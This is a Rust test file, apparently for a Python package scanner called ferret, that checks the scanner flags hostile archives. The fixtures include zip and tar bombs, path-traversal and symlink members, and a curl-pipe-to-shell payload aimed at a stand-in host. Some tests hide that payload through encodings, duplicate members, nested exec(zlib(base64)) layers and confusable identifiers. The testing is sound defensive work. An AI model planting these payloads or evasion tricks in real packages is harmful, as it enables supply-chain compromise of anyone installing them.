//! Hostile input (issues #2 and #8): every case ends with a verdict that is not `clean`, within
//! bounds, without crashing. Each case prints its time and peak memory; the assertions on them
//! are hang/exhaustion detectors with a wide margin, not speed targets (those live in benches/).

use crate::support::{bzip2, engine, gzip, measured, tar, zip};
use ferret_report::{PackageReport, Verdict};
use std::collections::BTreeSet;
use std::io::Write;
use std::time::Duration;

const HANG: Duration = Duration::from_secs(20);
const MEMORY: u64 = 512 << 20;

/// The issue's bound for each case. Printed against for every case; the assertions use the wider
/// HANG/MEMORY margins because CI runs debug builds, tests in parallel, on a shared machine.
const TARGET_TIME: Duration = Duration::from_secs(2);
const TARGET_MEMORY: u64 = 256 << 20;

fn vm_rss() -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find_map(|l| l.strip_prefix("VmRSS:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        })
        .map_or(0, |kib| kib * 1024)
}

/// Scans one case, printing its wall time and peak memory: the process's peak RSS during the
/// scan (VmHWM after a reset) minus its RSS before, so the input the test built is not counted.
/// Tests running in parallel share the process; run with `--test-threads=1` for exact figures.
fn scan(name: &str, bytes: &[u8], file_name: &str) -> PackageReport {
    let before = vm_rss();
    let (report, elapsed, peak) =
        measured(name, || engine().scan_bytes(bytes, file_name, file_name));
    let growth = peak.saturating_sub(before);
    let within = elapsed <= TARGET_TIME && growth <= TARGET_MEMORY;
    eprintln!(
        "[bound] {name}: {:.0} ms, +{} MiB peak RSS, {} ({}; {})",
        elapsed.as_secs_f64() * 1000.0,
        growth >> 20,
        if within {
            "within 2 s/256 MiB"
        } else {
            "OVER 2 s/256 MiB"
        },
        report.verdict.as_str(),
        rules_fired(&report)
            .into_iter()
            .collect::<BTreeSet<_>>()
            .into_iter()
            .collect::<Vec<_>>()
            .join(" "),
    );
    assert!(elapsed < HANG, "{name} took {elapsed:?}");
    assert!(peak < MEMORY, "{name} peaked at {peak} bytes");
    report
}

fn rules_fired(r: &PackageReport) -> Vec<&str> {
    r.findings.iter().map(|f| f.rule.as_str()).collect()
}

#[test]
fn zip_bomb_is_not_clean() {
    // One member inflating to 256 MiB of spaces: the ratio limit stops it.
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(true);
    w.start_file("bomb/setup.py", opts).unwrap();
    w.write_all(b"# padding\n").unwrap();
    let spaces = vec![b' '; 1 << 20];
    for _ in 0..256 {
        w.write_all(&spaces).unwrap();
    }
    let bytes = w.finish().unwrap().into_inner();
    let r = scan("zip bomb (256 MiB member)", &bytes, "bomb-1.0.zip");
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(
        rules_fired(&r).contains(&"archive-limit-exceeded"),
        "{:?}",
        rules_fired(&r)
    );
}

#[test]
fn tar_gz_ratio_bomb_is_not_clean() {
    // Streamed straight into gzip, so the test never holds the inflated bytes. Best
    // compression, as a bomb is made: zeros then inflate ~1,000x (a fast level gives ~100x
    // with some backends, under the 200x limit, and the member would only be a big file).
    let mut t = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::best(),
    ));
    let size = 1u64 << 28;
    let mut h = tar::Header::new_gnu();
    h.set_size(size);
    h.set_mode(0o644);
    h.set_path("bomb-1.0/data.bin").unwrap();
    h.set_cksum();
    t.append(&h, std::io::repeat(0).take(size)).unwrap();
    let bytes = t.into_inner().unwrap().finish().unwrap();
    let r = scan(
        "tar.gz ratio bomb (256 MiB member)",
        &bytes,
        "bomb-1.0.tar.gz",
    );
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(
        rules_fired(&r).contains(&"archive-limit-exceeded"),
        "{:?}",
        rules_fired(&r)
    );
}

use std::io::Read as _;

/// A tar header whose name and link bytes are written raw (the tar crate refuses `..`).
fn raw_entry(name: &str, kind: tar::EntryType, link: Option<&str>, data: &[u8]) -> Vec<u8> {
    let mut h = tar::Header::new_gnu();
    {
        let gnu = h.as_gnu_mut().unwrap();
        gnu.name[..name.len()].copy_from_slice(name.as_bytes());
        if let Some(l) = link {
            gnu.linkname[..l.len()].copy_from_slice(l.as_bytes());
        }
    }
    h.set_entry_type(kind);
    h.set_size(data.len() as u64);
    h.set_mode(0o644);
    h.set_cksum();
    let mut out = h.as_bytes().to_vec();
    out.extend_from_slice(data);
    out.resize(out.len().div_ceil(512) * 512, 0);
    out
}

#[test]
fn traversal_and_links_are_findings() {
    let mut raw = Vec::new();
    raw.extend(raw_entry(
        "evil-1.0/setup.py",
        tar::EntryType::Regular,
        None,
        b"from setuptools import setup\nsetup(name='evil')\n",
    ));
    raw.extend(raw_entry(
        "evil-1.0/../../home/user/.bashrc",
        tar::EntryType::Regular,
        None,
        b"echo hi\n",
    ));
    raw.extend(raw_entry(
        "/etc/cron.d/evil",
        tar::EntryType::Regular,
        None,
        b"* * * * * root true\n",
    ));
    raw.extend(raw_entry(
        "evil-1.0/link",
        tar::EntryType::Symlink,
        Some("/etc/passwd"),
        b"",
    ));
    raw.extend(raw_entry(
        "evil-1.0/loop",
        tar::EntryType::Symlink,
        Some("loop"),
        b"",
    ));
    raw.extend(raw_entry(
        "evil-1.0/hard",
        tar::EntryType::Link,
        Some("evil-1.0/setup.py"),
        b"",
    ));
    raw.extend(raw_entry("evil-1.0/dev", tar::EntryType::Char, None, b""));
    raw.extend(vec![0u8; 1024]);
    let r = scan(
        "tar with ../, absolute, symlink, hardlink, device",
        &gzip(&raw),
        "evil-1.0.tar.gz",
    );
    assert_ne!(r.verdict, Verdict::Clean);
    let fired: BTreeSet<&str> = rules_fired(&r).into_iter().collect();
    assert!(fired.contains("archive-path-escape"), "{fired:?}");
    assert!(fired.contains(&"archive-special-member"), "{fired:?}");
    // Nothing was written anywhere: the member is only reported.
    assert!(r.findings.iter().any(|f| f.message.contains("..")));
}

#[test]
fn deeply_nested_source_is_not_clean() {
    for (what, src) in [
        (
            "brackets",
            format!("x = {}1{}\n", "[".repeat(100_000), "]".repeat(100_000)),
        ),
        (
            "calls",
            format!("x = {}1{}\n", "f(".repeat(100_000), ")".repeat(100_000)),
        ),
        ("unary", format!("x = {}1\n", "-".repeat(100_000))),
        ("lambdas", format!("x = {}1\n", "lambda: ".repeat(100_000))),
    ] {
        let files = vec![("deep-1.0/deep/__init__.py".to_string(), src.into_bytes())];
        let r = scan(
            &format!("100,000 nested {what}"),
            &gzip(&tar(&files)),
            "deep-1.0.tar.gz",
        );
        assert_ne!(r.verdict, Verdict::Clean, "{what}");
        assert!(
            rules_fired(&r).contains(&"unanalysed-code"),
            "{what}: {:?}",
            rules_fired(&r)
        );
        assert!(!r.not_analysed.is_empty());
    }
}

#[test]
fn many_members_hit_the_member_limit() {
    let files: Vec<(String, Vec<u8>)> = (0..200_000)
        .map(|i| (format!("many-1.0/f{i}.txt"), Vec::new()))
        .collect();
    let bytes = zip(&files);
    let r = scan("200,000 members", &bytes, "many-1.0.zip");
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(rules_fired(&r).contains(&"archive-limit-exceeded"));
}

#[test]
fn nested_archives_stop_at_the_depth_limit() {
    let mut inner = zip(&[(
        "x/setup.py".to_string(),
        b"import os\nos.system('curl http://example.invalid/x | sh')\n".to_vec(),
    )]);
    for i in 0..50 {
        inner = zip(&[(format!("layer{i}.zip"), inner)]);
    }
    let r = scan("zip nested 50 deep", &inner, "nest-1.0.zip");
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(
        rules_fired(&r).contains(&"archive-limit-exceeded"),
        "{:?}",
        rules_fired(&r)
    );
}

#[test]
fn truncated_archives_are_unscannable_not_clean() {
    let full = gzip(&tar(&[("t-1.0/setup.py".to_string(), vec![b'#'; 100_000])]));
    for cut in [10, full.len() / 2] {
        let r = scan(
            &format!("tar.gz truncated at {cut}"),
            &full[..cut],
            "t-1.0.tar.gz",
        );
        assert_ne!(r.verdict, Verdict::Clean, "cut at {cut}");
    }
    let z = zip(&[("t-1.0/setup.py".to_string(), vec![b'#'; 100_000])]);
    let r = scan("zip truncated", &z[..z.len() / 2], "t-1.0.zip");
    assert_ne!(r.verdict, Verdict::Clean);
}

#[test]
fn payload_after_a_syntax_error_is_still_found() {
    let src =
        b"def broken(:\n    pass\nimport os\nos.system('curl http://example.invalid/x.sh | sh')\n";
    let files = vec![("p-1.0/setup.py".to_string(), src.to_vec())];
    let r = scan(
        "payload after a syntax error",
        &gzip(&tar(&files)),
        "p-1.0.tar.gz",
    );
    assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));
}

#[test]
fn duplicate_member_hiding_a_payload_is_scanned() {
    let files = vec![
        (
            "d-1.0/d/__init__.py".to_string(),
            b"VERSION = '1.0'\n".to_vec(),
        ),
        (
            "d-1.0/d/__init__.py".to_string(),
            b"import os\nos.system('curl http://example.invalid/x.sh | sh')\n".to_vec(),
        ),
    ];
    let r = scan("duplicate member", &gzip(&tar(&files)), "d-1.0.tar.gz");
    assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));
}

#[test]
fn hidden_places_are_scanned() {
    let payload = b"import os\nos.system('curl http://example.invalid/x.sh | sh')\n".to_vec();
    for (what, path) in [
        ("tests/", "h-1.0/tests/test_x.py"),
        (".pth", "h-1.0/h.pth"),
        ("dot dir", "h-1.0/.hidden/x.py"),
    ] {
        let data = if path.ends_with(".pth") {
            b"import os; os.system('curl http://example.invalid/x.sh | sh')\n".to_vec()
        } else {
            payload.clone()
        };
        let r = scan(
            &format!("payload in {what}"),
            &gzip(&tar(&[(path.to_string(), data)])),
            "h-1.0.tar.gz",
        );
        assert_ne!(r.verdict, Verdict::Clean, "{what}: {:?}", rules_fired(&r));
    }
    // A non-.py file run by setup.py.
    let files = vec![
        (
            "h-1.0/setup.py".to_string(),
            b"exec(open('h/payload.dat').read())\n".to_vec(),
        ),
        ("h-1.0/h/payload.dat".to_string(), payload),
    ];
    let r = scan(
        "payload in a .dat run by setup.py",
        &gzip(&tar(&files)),
        "h-1.0.tar.gz",
    );
    assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));
}

#[test]
fn encodings_and_odd_bytes_do_not_hide_code() {
    let payload = "import os\nos.system('curl http://example.invalid/x.sh | sh')\n";
    let mut utf16 = vec![0xff, 0xfe];
    utf16.extend(payload.encode_utf16().flat_map(u16::to_le_bytes));
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "latin-1 cookie",
            [
                b"# -*- coding: latin-1 -*-\nx = 'caf\xe9'\n".to_vec(),
                payload.as_bytes().to_vec(),
            ]
            .concat(),
        ),
        ("utf-16 BOM", utf16),
        (
            "unknown codec",
            format!("# coding: made-up\n{payload}").into_bytes(),
        ),
        (
            "invalid UTF-8",
            [b"x = '\xff\xfe'\n".to_vec(), payload.as_bytes().to_vec()].concat(),
        ),
        (
            "NUL bytes",
            [b"x = 1\n\0\n".to_vec(), payload.as_bytes().to_vec()].concat(),
        ),
        (
            "bidi controls",
            format!("x = 1 # \u{202e} }}\n{payload}").into_bytes(),
        ),
    ];
    for (what, src) in cases {
        let r = scan(
            what,
            &gzip(&tar(&[("e-1.0/setup.py".to_string(), src)])),
            "e-1.0.tar.gz",
        );
        assert_ne!(r.verdict, Verdict::Clean, "{what}");
    }
}

#[test]
fn huge_one_line_string_is_bounded() {
    let src = format!("x = '{}'\n", "A".repeat(50 << 20));
    let r = scan(
        "50 MB one-line string",
        &gzip(&tar(&[("s-1.0/s.py".to_string(), src.into_bytes())])),
        "s-1.0.tar.gz",
    );
    assert_ne!(r.verdict, Verdict::Clean);
}

fn b64(data: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len() * 4 / 3 + 4);
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            out.push(if i <= chunk.len() {
                A[((n >> (18 - 6 * i)) & 63) as usize] as char
            } else {
                '='
            });
        }
    }
    out
}

fn zlib_compress(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn scan_source(name: &str, src: String) -> PackageReport {
    scan(
        name,
        &gzip(&tar(&[(
            "x-1.0/x/__init__.py".to_string(),
            src.into_bytes(),
        )])),
        "x-1.0.tar.gz",
    )
}

/// [`scan_source`] in a plain tar: a highly repetitive source gzipped would stop at the
/// archive's own compression-ratio limit before its code is read.
fn scan_source_uncompressed(name: &str, src: String) -> PackageReport {
    scan(
        name,
        &tar(&[("x-1.0/x/__init__.py".to_string(), src.into_bytes())]),
        "x-1.0.tar",
    )
}

#[test]
fn gigabyte_zlib_bomb_inside_base64_is_bounded() {
    // 1 GiB of zeros, zlib-compressed (about 1 MB), base64 in the source: the decoder stops at
    // its cap and says so (the archive's own ratio limit would stop a gzipped one first).
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    let chunk = vec![0u8; 1 << 20];
    for _ in 0..1024 {
        e.write_all(&chunk).unwrap();
    }
    let blob = b64(&e.finish().unwrap());
    let src = format!("import zlib, base64\nexec(zlib.decompress(base64.b64decode('{blob}')))\n");
    let r = scan_source_uncompressed("1 GiB zlib bomb in base64", src);
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(
        rules_fired(&r).contains(&"unanalysed-code"),
        "{:?}",
        rules_fired(&r)
    );
}

#[test]
fn many_layers_of_encoding_end_with_a_finding() {
    // 200 genuine layers of exec(zlib(base64(...))): followed to the layer bound, then reported.
    let mut payload = "import os\nos.system('curl http://example.invalid/x.sh | sh')\n".to_string();
    for _ in 0..200 {
        payload = format!(
            "import zlib, base64\nexec(zlib.decompress(base64.b64decode('{}')))\n",
            b64(&zlib_compress(payload.as_bytes()))
        );
    }
    let r = scan_source("200 layers of exec(zlib(base64))", payload);
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(
        rules_fired(&r).contains(&"unanalysed-code"),
        "{:?}",
        rules_fired(&r)
    );
    assert!(r
        .findings
        .iter()
        .any(|f| f.decoded.as_ref().is_some_and(|d| d.chain.len() >= 24)));
    // 10,000 nested decoder calls in one expression: bounded by the nesting limit.
    let src = format!(
        "import base64\nexec({}'cHJpbnQoMSk='{})\n",
        "base64.b64decode(".repeat(10_000),
        ")".repeat(10_000)
    );
    let r = scan_source("10,000 nested decoder calls", src);
    assert_ne!(r.verdict, Verdict::Clean);
}

#[test]
fn self_referential_decoder_is_bounded() {
    let src =
        "def d(x):\n    return d(x[::-1])\nexec(d('payload'))\nf = lambda s: f(s)\nexec(f('x'))\n"
            .to_string();
    let r = scan_source("self-referential decoder", src);
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(
        rules_fired(&r).contains(&"unanalysed-code"),
        "{:?}",
        rules_fired(&r)
    );
}

// ---- Issue #8: archives that lie, loop, nest and overlap; source that hides. ----

#[path = "../crates/ferret_archive/src/testzip.rs"]
mod rawzip;

const PAYLOAD: &[u8] = b"import os\nos.system('curl http://example.invalid/x.sh | sh')\n";

fn fired(r: &PackageReport, rule: &str) -> bool {
    rules_fired(r).contains(&rule)
}

fn deflate(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

/// A deflated raw-zip member from data deflated once (copies share the compressed bytes).
fn raw_deflated(name: &str, content_len: usize, deflated: &[u8], crc: u32) -> rawzip::RawEntry {
    let mut e = rawzip::stored(name, b"");
    e.method = 8;
    e.data = deflated.to_vec();
    e.crc = crc;
    e.size = content_len as u32;
    e.compressed = deflated.len() as u32;
    e.local_compressed = deflated.len() as u32;
    e
}

fn crc(data: &[u8]) -> u32 {
    let mut c = flate2::Crc::new();
    c.update(data);
    c.sum()
}

#[test]
fn nested_zip_bomb_42_style_is_bounded() {
    // 42.zip's shape: 16 copies of a zip, each holding 16 copies of the next, five levels, with
    // 16 MiB of zeros at the bottom: 16^5 × 16 MiB = 16 TiB if followed.
    let zeros = vec![0u8; 16 << 20];
    let leaf = deflate(&zeros);
    let leaf_crc = crc(&zeros);
    drop(zeros);
    let mut layer = rawzip::build(
        &(0..16)
            .map(|i| raw_deflated(&format!("{i:x}.bin"), 16 << 20, &leaf, leaf_crc))
            .collect::<Vec<_>>(),
    );
    for level in 0..5 {
        let packed = deflate(&layer);
        let c = crc(&layer);
        layer = rawzip::build(
            &(0..16)
                .map(|i| raw_deflated(&format!("lib{level}{i:x}.zip"), layer.len(), &packed, c))
                .collect::<Vec<_>>(),
        );
    }
    let r = scan("42.zip-style nested zip bomb", &layer, "bomb-1.0.zip");
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(fired(&r, "archive-limit-exceeded"), "{:?}", rules_fired(&r));
}

#[test]
fn overlapping_entry_zip_bomb_is_bounded() {
    // Fifield's non-recursive bomb: 5,000 central entries all pointing at one kernel of 16 MiB
    // of spaces (text, so it is inflated; zeros would be noted as binary from their head).
    let spaces = vec![b' '; 16 << 20];
    let kernel = deflate(&spaces);
    let c = crc(&spaces);
    drop(spaces);
    let mut entries = vec![raw_deflated("o-1.0/k0.txt", 16 << 20, &kernel, c)];
    for i in 1..5000 {
        let mut e = raw_deflated(&format!("o-1.0/k{i}.txt"), 16 << 20, &kernel, c);
        e.share = Some(0);
        entries.push(e);
    }
    let r = scan(
        "overlapping-entry zip bomb (5,000 × 16 MiB)",
        &rawzip::build(&entries),
        "o-1.0.zip",
    );
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(
        fired(&r, "archive-header-mismatch"),
        "{:?}",
        rules_fired(&r)
    );
    assert!(fired(&r, "archive-limit-exceeded"), "{:?}", rules_fired(&r));
}

#[test]
fn mixed_formats_nested_50_deep_stop_at_the_depth_limit() {
    let mut inner = tar(&[("x/setup.py".to_string(), PAYLOAD.to_vec())]);
    for i in 0..50 {
        inner = match i % 3 {
            0 => gzip(&inner),
            1 => zip(&[(format!("l{i}.tar.gz"), inner)]),
            _ => tar(&[(format!("l{i}.zip"), inner)]),
        };
    }
    let r = scan("zip/tar/gz nested 50 deep", &inner, "nest-1.0.tar");
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(fired(&r, "archive-limit-exceeded"), "{:?}", rules_fired(&r));
}

#[test]
fn declared_sizes_that_lie_are_caught() {
    // Zip: 4 GB declared, 1 MB real (a payload padded to 1 MB).
    // Padding that does not compress much, so the ratio limit does not stop the read.
    let mut content = PAYLOAD.to_vec();
    let mut x = 0x2545_f491_u32;
    while content.len() < 1 << 20 {
        content.extend_from_slice(b"# ");
        for _ in 0..64 {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            content.push(b'a' + (x % 26) as u8);
        }
        content.push(b'\n');
    }
    let mut e = rawzip::deflated("big-1.0/setup.py", &content);
    e.size = u32::MAX;
    let r = scan(
        "zip member 4 GB declared / 1 MB real",
        &rawzip::build(&[e]),
        "big-1.0.zip",
    );
    assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));
    assert!(
        fired(&r, "archive-header-mismatch"),
        "{:?}",
        rules_fired(&r)
    );

    // Zip, the reverse: 100 bytes declared, 64 MiB real.
    let mut big = PAYLOAD.to_vec();
    big.resize(64 << 20, b' ');
    let mut e = rawzip::deflated("small-1.0/setup.py", &big);
    drop(big);
    e.size = 100;
    let r = scan(
        "zip member 100 B declared / 64 MiB real",
        &rawzip::build(&[e]),
        "small-1.0.zip",
    );
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(fired(&r, "archive-limit-exceeded"), "{:?}", rules_fired(&r));
    assert!(
        fired(&r, "archive-header-mismatch"),
        "{:?}",
        rules_fired(&r)
    );

    // Tar: a header declaring 4 GB with 1 MB of data and then the end of the stream. The tar
    // reader stops quietly there; ferret must say the member was cut.
    let mut h = tar::Header::new_gnu();
    h.set_path("big-1.0/big/__init__.py").unwrap();
    h.set_size(4 << 30);
    h.set_mode(0o644);
    h.set_cksum();
    let mut raw = h.as_bytes().to_vec();
    raw.extend(vec![b'#'; 1 << 20]);
    let r = scan(
        "tar member 4 GB declared / 1 MB real",
        &gzip(&raw),
        "big-1.0.tar.gz",
    );
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(
        r.not_analysed.iter().any(|n| n.reason.contains("declares")),
        "{:?}",
        r.not_analysed
    );
}

#[test]
fn link_loops_and_device_files_are_reported_not_followed() {
    let mut raw = Vec::new();
    for (name, kind, link) in [
        ("l-1.0/a", tar::EntryType::Symlink, Some("b")),
        ("l-1.0/b", tar::EntryType::Symlink, Some("a")),
        ("l-1.0/self", tar::EntryType::Symlink, Some(".")),
        ("l-1.0/up", tar::EntryType::Symlink, Some("..")),
        ("l-1.0/h1", tar::EntryType::Link, Some("l-1.0/h2")),
        ("l-1.0/h2", tar::EntryType::Link, Some("l-1.0/h1")),
        ("l-1.0/hself", tar::EntryType::Link, Some("l-1.0/hself")),
        ("l-1.0/blk", tar::EntryType::Block, None),
        ("l-1.0/fifo", tar::EntryType::Fifo, None),
    ] {
        raw.extend(raw_entry(name, kind, link, b""));
    }
    raw.extend(raw_entry(
        "l-1.0/setup.py",
        tar::EntryType::Regular,
        None,
        b"from setuptools import setup\nsetup(name='l')\n",
    ));
    raw.extend(vec![0u8; 1024]);
    let r = scan(
        "tar with symlink and hardlink loops, block device, fifo",
        &gzip(&raw),
        "l-1.0.tar.gz",
    );
    // Links are only reported (benign sdists ship symlinks); devices make it suspicious.
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(fired(&r, "archive-special-member"), "{:?}", rules_fired(&r));
    assert!(fired(&r, "archive-device-member"), "{:?}", rules_fired(&r));

    // Zip: a symlink loop and a character device, as Unix modes in the central directory.
    let mut a = rawzip::stored("z-1.0/a", b"b");
    a.mode = 0o120777;
    let mut b = rawzip::stored("z-1.0/b", b"a");
    b.mode = 0o120777;
    let mut dev = rawzip::stored("z-1.0/tty", b"");
    dev.mode = 0o020666;
    let r = scan(
        "zip with a symlink loop and a device",
        &rawzip::build(&[a, b, dev]),
        "z-1.0.zip",
    );
    assert_ne!(r.verdict, Verdict::Clean);
    assert!(fired(&r, "archive-special-member"), "{:?}", rules_fired(&r));
    assert!(fired(&r, "archive-device-member"), "{:?}", rules_fired(&r));
}

#[test]
fn duplicate_zip_member_hiding_a_payload_is_scanned() {
    // Either copy may be the one an extractor keeps: both are scanned. With the payload first,
    // a reader that maps names to entries (the last copy wins) would never see it.
    for (what, first, second) in [
        ("payload first", PAYLOAD, &b"VERSION = '1.0'\n"[..]),
        ("payload second", &b"VERSION = '1.0'\n"[..], PAYLOAD),
    ] {
        let z = rawzip::build(&[
            rawzip::deflated("d/__init__.py", first),
            rawzip::deflated("d/__init__.py", second),
            rawzip::deflated("d-1.0.dist-info/METADATA", b"Name: d\nVersion: 1.0\n"),
        ]);
        let r = scan(
            &format!("zip duplicate member, {what}"),
            &z,
            "d-1.0-py3-none-any.whl",
        );
        assert_eq!(
            r.verdict,
            Verdict::Malicious,
            "{what}: {:?}",
            rules_fired(&r)
        );
    }
    // Tar, payload in the first copy (the existing case has it second).
    let files = vec![
        ("d-1.0/d/__init__.py".to_string(), PAYLOAD.to_vec()),
        (
            "d-1.0/d/__init__.py".to_string(),
            b"VERSION = '1.0'\n".to_vec(),
        ),
    ];
    let r = scan(
        "tar duplicate member, payload first",
        &gzip(&tar(&files)),
        "d-1.0.tar.gz",
    );
    assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));
}

#[test]
fn identical_copies_are_each_reported_and_near_copies_each_analysed() {
    // One source tree per Python version: the copies are analysed once, and each copy's
    // findings carry its own path.
    let files = vec![
        ("d-1.0/py3.9/d/__init__.py".to_string(), PAYLOAD.to_vec()),
        ("d-1.0/py3.12/d/__init__.py".to_string(), PAYLOAD.to_vec()),
    ];
    let r = scan("tar, identical copies", &gzip(&tar(&files)), "d-1.0.tar.gz");
    let flagged: BTreeSet<&str> = r.findings.iter().map(|f| f.file.as_str()).collect();
    for (path, _) in &files {
        assert!(flagged.contains(path.as_str()), "{path}: {flagged:?}");
    }
    assert_eq!(r.stats.python_files, 2);
    // Same length, same first and last 256 bytes, different middle: grouping looks at a
    // sample of the bytes first, but only a full compare may join two files.
    let pad = format!("# {}\n", "x".repeat(300));
    let middle_bad = String::from_utf8(PAYLOAD.to_vec()).unwrap();
    let middle_good = format!("VERSION = '{}'\n", "1".repeat(middle_bad.len() - 13));
    assert_eq!(middle_good.len(), middle_bad.len());
    let good = format!("{pad}{middle_good}{pad}");
    let bad = format!("{pad}{middle_bad}{pad}");
    for (what, first, second) in [("good first", &good, &bad), ("bad first", &bad, &good)] {
        let files = vec![
            ("d-1.0/a/__init__.py".to_string(), first.as_bytes().to_vec()),
            (
                "d-1.0/b/__init__.py".to_string(),
                second.as_bytes().to_vec(),
            ),
        ];
        let r = scan(what, &gzip(&tar(&files)), "d-1.0.tar.gz");
        let bad_path = if first == &bad {
            &files[0].0
        } else {
            &files[1].0
        };
        let flagged: BTreeSet<&str> = r
            .findings
            .iter()
            .map(|f| f.file.as_str())
            .filter(|f| f.ends_with(".py"))
            .collect();
        assert_eq!(flagged, BTreeSet::from([bad_path.as_str()]), "{what}");
    }
}

#[test]
fn zip_headers_that_disagree_are_read_both_ways() {
    // The central directory says README.txt; the local header (what a streaming unzipper
    // extracts) says the package's __init__.py, and holds the payload.
    let mut e = rawzip::stored("m/README.txt", PAYLOAD);
    e.local_name = b"m/__init__.py".to_vec();
    let z = rawzip::build(&[e, rawzip::stored("m-1.0.dist-info/METADATA", b"Name: m\n")]);
    let r = scan(
        "zip local name ≠ central name",
        &z,
        "m-1.0-py3-none-any.whl",
    );
    assert!(
        fired(&r, "archive-header-mismatch"),
        "{:?}",
        rules_fired(&r)
    );
    assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));

    // A local header and its data with no central entry: pip never sees it, a streaming
    // extractor does.
    let mut hidden = rawzip::deflated("h/_hook.py", PAYLOAD);
    hidden.hidden = true;
    let z = rawzip::build(&[
        rawzip::stored("h/__init__.py", b"VERSION = '1.0'\n"),
        hidden,
        rawzip::stored("h-1.0.dist-info/METADATA", b"Name: h\n"),
    ]);
    let r = scan(
        "zip local header missing from the central directory",
        &z,
        "h-1.0.whl",
    );
    assert!(
        fired(&r, "archive-header-mismatch"),
        "{:?}",
        rules_fired(&r)
    );
    assert_eq!(r.verdict, Verdict::Malicious, "{:?}", rules_fired(&r));

    // Sizes: the local header declares only the harmless first line; the central entry covers
    // the payload after it (and the reverse).
    let mut content = b"VERSION = '1.0'\n".to_vec();
    content.extend_from_slice(PAYLOAD);
    for (what, local_short) in [("local shorter", true), ("central shorter", false)] {
        let mut e = rawzip::stored("s/__init__.py", &content);
        if local_short {
            e.local_compressed = 16;
        } else {
            e.compressed = 16;
            e.size = 16;
        }
        let r = scan(
            &format!("zip compressed size mismatch, {what}"),
            &rawzip::build(&[e]),
            "s-1.0.zip",
        );
        assert!(
            fired(&r, "archive-header-mismatch"),
            "{what}: {:?}",
            rules_fired(&r)
        );
        assert_eq!(
            r.verdict,
            Verdict::Malicious,
            "{what}: {:?}",
            rules_fired(&r)
        );
    }
}

#[test]
fn truncated_archives_of_every_format_are_not_clean() {
    let files = vec![("t-1.0/setup.py".to_string(), vec![b'#'; 100_000])];
    let plain = tar(&files);
    let z = zip(&files);
    for (what, full, name) in [
        ("tar", plain.clone(), "t-1.0.tar"),
        ("tar.bz2", bzip2(&plain), "t-1.0.tar.bz2"),
        ("zip", z.clone(), "t-1.0.zip"),
    ] {
        // Inside the member's data, and (compressed formats) in the stream's trailer; a plain tar
        // cut in its trailing zero blocks has lost nothing, so it is cut in the data twice.
        let late = if what == "tar" {
            512 + 90_000
        } else {
            full.len() - 10
        };
        for cut in [full.len() / 3, late] {
            let r = scan(&format!("{what} truncated at {cut}"), &full[..cut], name);
            assert_ne!(r.verdict, Verdict::Clean, "{what} cut at {cut}");
        }
    }
}

#[test]
fn more_encodings_and_confusables_do_not_hide_code() {
    check_sources(&more_cases());
}

fn check_sources(cases: &[(&str, Vec<u8>, bool)]) {
    let mut missed = Vec::new();
    for (what, src, must_be_malicious) in cases {
        let r = scan(
            what,
            &gzip(&tar(&[("e-1.0/setup.py".to_string(), src.clone())])),
            "e-1.0.tar.gz",
        );
        if r.verdict == Verdict::Clean || (*must_be_malicious && r.verdict != Verdict::Malicious) {
            missed.push(format!("{what}: {:?} {:?}", r.verdict, rules_fired(&r)));
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

/// PEP 3131: CPython NFKC-normalises identifiers, so `𝘰𝘴.𝘴𝘺𝘴𝘵𝘦𝘮` is `os.system`; so does Ruff's
/// lexer, and names resolve from the normalised form.
#[test]
fn nfkc_confusable_identifiers_are_resolved() {
    let cases: Vec<(&str, Vec<u8>, bool)> = vec![
        (
            // PEP 3131: identifiers are NFKC-normalised, so these are `os.system` to CPython.
            "confusable (NFKC) identifiers",
            "import \u{1d630}\u{1d634}\n\u{1d630}\u{1d634}.\u{1d634}\u{1d63a}\u{1d634}\u{1d635}\u{1d626}\u{1d62e}('curl http://example.invalid/x.sh | sh')\n"
                .as_bytes()
                .to_vec(),
            true,
        ),
    ];
    check_sources(&cases);
}

fn more_cases() -> Vec<(&'static str, Vec<u8>, bool)> {
    let payload = std::str::from_utf8(PAYLOAD).unwrap();
